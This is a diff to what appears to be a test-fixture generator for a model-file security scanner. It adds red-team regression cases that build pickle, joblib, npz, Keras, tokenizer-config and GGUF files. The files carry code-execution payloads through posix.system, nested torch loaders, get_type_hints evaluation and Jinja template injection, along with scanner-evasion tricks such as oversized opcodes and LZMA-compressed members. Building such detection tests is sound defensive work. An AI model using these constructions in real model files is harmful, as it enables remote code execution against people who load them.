@@ -86,6 +86,13 @@ SRC_SKOPS = "CVE-2025-54412, CVE-2025-54413 (io-no/CVE-Reports #3, #4)"
 SRC_ARCHIVE = "CWE-22 archive path traversal (zip-slip, tar ../ and links)"
 SRC_DOS = "derived (decompression bomb; safetensors format spec)"
 SRC_EXPANSION = "fickling ExpansionAttack analysis; derived"
+SRC_RT_NESTED = "aiwarden red team: nested loader fed a computed, converted or archive argument"
+SRC_RT_APPLY = "aiwarden red team: allowlisted apply gadget handed a resolved callable"
+SRC_RT_TYPE_HINTS = "aiwarden red team: typing.get_type_hints evaluates BUILD-set annotations"
+SRC_RT_PARSER = "aiwarden red team: opcode parsing stricter than CPython stops the analysis early"
+SRC_RT_JOBLIB = "aiwarden red team: joblib array bytes that pickle.load runs as opcodes"
+SRC_RT_LZMA = "aiwarden red team: LZMA (method 14) zip members unreadable to the scanner"
+SRC_RT_SSTI = "aiwarden red team: Jinja chat-template SSTI without dunder literals"
 
 
 @dataclass(frozen=True)
@@ -1021,13 +1028,13 @@ def keras_weights_h5() -> bytes:
     return buf.getvalue()
 
 
-def keras_archive(config: dict[str, object]) -> bytes:
+def keras_archive(config: dict[str, object], compress: int = zipfile.ZIP_STORED) -> bytes:
     metadata = {"keras_version": "3.8.0", "date_saved": "1980-01-01@00:00:00"}
     return zip_archive(
         [
-            ZipEntry("metadata.json", canonical_json(metadata)),
-            ZipEntry("config.json", canonical_json(config)),
-            ZipEntry("model.weights.h5", keras_weights_h5()),
+            ZipEntry("metadata.json", canonical_json(metadata), compress),
+            ZipEntry("config.json", canonical_json(config), compress),
+            ZipEntry("model.weights.h5", keras_weights_h5(), compress),
         ]
     )
 
@@ -1340,6 +1347,154 @@ def case_skops_method_node(m: Marker) -> bytes:
         "content": {"func": "__call__", "obj": skops_function("os", "system")},
     }
     return skops_schema({"callback": method, "command": skops_json_str(m.shell)})
+
+
+# ---------------------------------------------------------------------------------------------
+# aiwarden red-team regressions (bypasses of earlier aiwarden versions)
+# ---------------------------------------------------------------------------------------------
+
+
+def posix_system_p2(marker: Marker) -> bytes:
+    """``posix.system(cmd)``: the module name avoids ``os.system`` text matches."""
+    return call(op_global("posix", "system"), op_binunicode(marker.shell))
+
+
+def load_from_bytes(argument: bytes) -> bytes:
+    return p2(call(op_global("torch.storage", "_load_from_bytes"), argument))
+
+
+def case_rt_load_from_bytes_codecs(m: Marker) -> bytes:
+    inner = p2(posix_system_p2(m)).decode("latin-1")
+    return load_from_bytes(call(op_global("_codecs", "encode"), op_binunicode(inner), op_binunicode("latin1")))
+
+
+def case_rt_load_from_bytes_bytearray(m: Marker) -> bytes:
+    return load_from_bytes(call(op_global("builtins", "bytearray"), op_bytes(p2(posix_system_p2(m)))))
+
+
+def case_rt_load_from_bytes_zip(m: Marker) -> bytes:
+    archive = zip_archive(
+        [
+            ZipEntry("archive/data.pkl", p2(posix_system_p2(m))),
+            ZipEntry("archive/version", b"3\n"),
+            ZipEntry("archive/byteorder", b"little"),
+        ]
+    )
+    return load_from_bytes(op_bytes(archive))
+
+
+def import_dotted(name: str) -> bytes:
+    return call(op_global("torch._utils", "_import_dotted_name"), op_binunicode(name))
+
+
+def case_rt_randomstate_ctor(m: Marker) -> bytes:
+    ctor = op_global("numpy.random._pickle", "__randomstate_ctor")
+    return p2(call(ctor, op_binunicode(m.shell), import_dotted("posix.system")))
+
+
+def case_rt_rebuild_from_type(m: Marker) -> bytes:
+    rebuild = op_global("torch._tensor", "_rebuild_from_type_v2")
+    args = mark_tuple(op_binunicode(m.shell))
+    return p2(call(rebuild, import_dotted("posix.system"), op_global("torch", "Tensor"), args, EMPTY_DICT))
+
+
+def annotated_namespace(m: Marker) -> bytes:
+    """``argparse.Namespace`` whose ``__annotations__`` (set by BUILD) holds a string annotation to evaluate."""
+    annotations = EMPTY_DICT + op_binunicode("x") + op_binunicode(m.python) + SETITEM
+    state = EMPTY_DICT + op_binunicode("__annotations__") + annotations + SETITEM
+    return call(op_global("argparse", "Namespace")) + state + BUILD
+
+
+def case_rt_get_type_hints(m: Marker) -> bytes:
+    return p2(call(op_global("typing", "get_type_hints"), annotated_namespace(m)))
+
+
+def case_rt_generator_ctor_type_hints(m: Marker) -> bytes:
+    ctor = op_global("numpy.random._pickle", "__generator_ctor")
+    return p2(call(ctor, annotated_namespace(m), op_global("typing", "get_type_hints")))
+
+
+def case_rt_int_hex_literal(m: Marker) -> bytes:
+    return p2(b"I0x10\n" + POP + posix_system_p2(m))
+
+
+def case_rt_long_unicode_line(m: Marker) -> bytes:
+    return p2(b"V" + b"a" * 70_000 + b"\n" + POP + posix_system_p2(m))
+
+
+def case_rt_long4_2mib(m: Marker) -> bytes:
+    size = 1 << 21
+    return p2(b"\x8b" + struct.pack("<i", size) + b"\x01" * size + POP + posix_system_p2(m))
+
+
+def case_rt_stack_2m(m: Marker) -> bytes:
+    return p2(NONE * 2_000_001 + posix_system_p2(m))
+
+
+def joblib_wrapper(count: int, elsize: int | None = None) -> bytes:
+    """A ``NumpyArrayWrapper`` announcing ``count`` int8 items; ``elsize`` adds a dtype BUILD state claiming it."""
+    dtype = call(op_global("numpy", "dtype"), op_binunicode("i1"), NEWFALSE, NEWTRUE)
+    if elsize is not None:
+        dtype += encode_value((3, "|", None, None, None, elsize, 1, 0)) + BUILD
+    state = (
+        EMPTY_DICT
+        + MARK
+        + op_binunicode("subclass")
+        + op_global("numpy", "ndarray")
+        + op_binunicode("shape")
+        + mark_tuple(op_int(count))
+        + op_binunicode("order")
+        + op_binunicode("C")
+        + op_binunicode("dtype")
+        + dtype
+        + op_binunicode("allow_mmap")
+        + NEWFALSE
+        + SETITEMS
+    )
+    return op_global("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
+
+
+def case_rt_joblib_wrapper_hidden_ops(m: Marker) -> bytes:
+    region = posix_system_p2(m) + POP
+    return p2(joblib_wrapper(len(region)) + region)
+
+
+def case_rt_joblib_elsize_desync(m: Marker) -> bytes:
+    """joblib reads ``count`` array bytes (numpy ignores elsize for i1), a reader trusting elsize skips 8x."""
+    hidden = posix_system_p2(m) + POP
+    count = max(64, -(-(len(hidden) + 6) // 7))
+    filler = 8 * count - count - len(hidden) - 5 - 1
+    region = b"\x00" * count + hidden + b"B" + struct.pack("<I", filler) + b"\x00" * filler + POP
+    assert len(region) == 8 * count
+    return p2(joblib_wrapper(count, elsize=8) + region)
+
+
+def case_rt_npz_lzma(m: Marker) -> bytes:
+    import numpy as np
+
+    weights = ZipEntry("weights.npy", npy_bytes(np.arange(4, dtype=np.float32)), zipfile.ZIP_LZMA)
+    return zip_archive([weights, ZipEntry("meta.npy", npy_bytes(object_array(m)), zipfile.ZIP_LZMA)])
+
+
+def computed_name_template(m: Marker) -> str:
+    return (
+        "{% set u = '_'*2 %}{% set i = u~'init'~u %}{% set gl = u~'globals'~u %}"
+        "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n{% endfor %}"
+        f"{{{{ cycler[i][gl]['os']['pop'~'en']({m.shell!r}).read() }}}}"
+    )
+
+
+def case_rt_tokenizer_config_ssti(m: Marker) -> bytes:
+    return canonical_json({"bos_token": "<s>", "chat_template": computed_name_template(m)})
+
+
+def case_rt_gguf_ssti(m: Marker) -> bytes:
+    return gguf_with_template(computed_name_template(m))
+
+
+def case_rt_keras_lambda_lzma(m: Marker) -> bytes:
+    config = keras_sequential([keras_lambda("lambda", keras_bytecode_function(m))])
+    return keras_archive(config, compress=zipfile.ZIP_LZMA)
 
 
 # ---------------------------------------------------------------------------------------------
@@ -1775,6 +1930,119 @@ CASES: tuple[Case, ...] = (
         HIGH,
     ),
     Case("skops-method-node.skops", case_skops_method_node, "skops MethodNode __call__ on os.system", SRC_SKOPS, HIGH),
+    Case(
+        "load-from-bytes-codecs.pkl",
+        case_rt_load_from_bytes_codecs,
+        "torch.storage._load_from_bytes of a pickle rebuilt by _codecs.encode at load time",
+        SRC_RT_NESTED,
+        CRITICAL,
+    ),
+    Case(
+        "load-from-bytes-bytearray.pkl",
+        case_rt_load_from_bytes_bytearray,
+        "torch.storage._load_from_bytes of builtins.bytearray(<pickle>)",
+        SRC_RT_NESTED,
+        CRITICAL,
+    ),
+    Case(
+        "load-from-bytes-zip.pkl",
+        case_rt_load_from_bytes_zip,
+        "torch.storage._load_from_bytes of a literal torch zip with a payload data.pkl",
+        SRC_RT_NESTED,
+        CRITICAL,
+    ),
+    Case(
+        "randomstate-ctor-import-dotted.pkl",
+        case_rt_randomstate_ctor,
+        "numpy __randomstate_ctor applies torch._utils._import_dotted_name('posix.system')",
+        SRC_RT_APPLY,
+        CRITICAL,
+    ),
+    Case(
+        "rebuild-from-type-v2.pkl",
+        case_rt_rebuild_from_type,
+        "torch._tensor._rebuild_from_type_v2 calls _import_dotted_name('posix.system')",
+        SRC_RT_APPLY,
+        CRITICAL,
+    ),
+    Case(
+        "get-type-hints-eval.pkl",
+        case_rt_get_type_hints,
+        "typing.get_type_hints on a Namespace whose __annotations__ holds code",
+        SRC_RT_TYPE_HINTS,
+        CRITICAL,
+    ),
+    Case(
+        "generator-ctor-get-type-hints.pkl",
+        case_rt_generator_ctor_type_hints,
+        "numpy __generator_ctor handed typing.get_type_hints and an annotated Namespace",
+        SRC_RT_TYPE_HINTS,
+        CRITICAL,
+    ),
+    Case(
+        "int-hex-literal.pkl",
+        case_rt_int_hex_literal,
+        "INT '0x10' (CPython parses base 0) before the payload",
+        SRC_RT_PARSER,
+        CRITICAL,
+    ),
+    Case(
+        "long-unicode-line.pkl",
+        case_rt_long_unicode_line,
+        "70,000-character protocol-0 UNICODE line before the payload",
+        SRC_RT_PARSER,
+        CRITICAL,
+    ),
+    Case("long4-2mib.pkl", case_rt_long4_2mib, "2 MiB LONG4 integer before the payload", SRC_RT_PARSER, CRITICAL),
+    Case(
+        "stack-2m.pkl",
+        case_rt_stack_2m,
+        "2,000,001 stack items (past the analysis limit) before the payload",
+        SRC_RT_PARSER,
+        HIGH,
+    ),
+    Case(
+        "joblib-wrapper-hidden-ops.pkl",
+        case_rt_joblib_wrapper_hidden_ops,
+        "plain pickle with a NumpyArrayWrapper whose 'array bytes' are payload opcodes",
+        SRC_RT_JOBLIB,
+        CRITICAL,
+    ),
+    Case(
+        "joblib-dtype-elsize-desync.joblib",
+        case_rt_joblib_elsize_desync,
+        "joblib int8 array whose dtype BUILD claims elsize 8; payload inside the over-skipped bytes",
+        SRC_RT_JOBLIB,
+        CRITICAL,
+    ),
+    Case(
+        "npz-lzma-member.npz",
+        case_rt_npz_lzma,
+        ".npz whose object-array member is LZMA-compressed (zip method 14)",
+        SRC_RT_LZMA,
+        CRITICAL,
+    ),
+    Case(
+        "tokenizer-config-ssti.json",
+        case_rt_tokenizer_config_ssti,
+        "tokenizer_config chat_template reaching cycler globals through names built with ~",
+        SRC_RT_SSTI,
+        CRITICAL,
+    ),
+    Case(
+        "gguf-ssti-computed-names.gguf",
+        case_rt_gguf_ssti,
+        "GGUF chat_template reaching cycler globals through names built with ~",
+        SRC_RT_SSTI,
+        CRITICAL,
+    ),
+    Case(
+        "keras-lambda-lzma.keras",
+        case_rt_keras_lambda_lzma,
+        "Keras v3 bytecode Lambda in a .keras zip with LZMA-compressed members",
+        SRC_RT_LZMA,
+        HIGH,
+    ),
 )
 
 
